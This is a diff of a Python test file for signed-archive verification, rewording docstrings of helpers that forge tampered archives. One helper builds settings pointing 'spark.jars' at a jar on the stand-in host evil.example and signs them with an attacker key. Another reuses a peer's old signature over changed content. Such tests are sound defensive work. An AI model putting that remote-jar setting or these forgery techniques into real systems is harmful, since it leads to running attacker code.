@@ -172,15 +172,15 @@ def test_more_than_the_disk_has_is_not_unpacked(
 
 
 def changed_settings(data: bytes, _key: Ed25519PrivateKey) -> bytes:
-    """Return the archive with other settings, as an attacker who has only the file can make it:
-    with the checksums of its content, and a signature by a key of their own."""
+    """Return the archive with other settings, as an attacker with the file alone can make it: with
+    the checksums of its content, and with a signature by the attacker's own key."""
     settings = b'[spark]\n"spark.jars" = "http://evil.example/run.jar"\n'
     forged = body((tarfile.TarInfo("medusa.toml"), settings))
     return signed(forged, {"medusa.toml": settings}, Ed25519PrivateKey.generate())
 
 
 def old_manifest(data: bytes, _key: Ed25519PrivateKey) -> bytes:
-    """Return other content under the peer's own signature."""
+    """Return the archive with other content and the peer's own signature."""
     forged = body((tarfile.TarInfo("medusa.toml"), b"changed"))
     start = data.rindex(sealed_mark(data))
     return forged + data[start:]
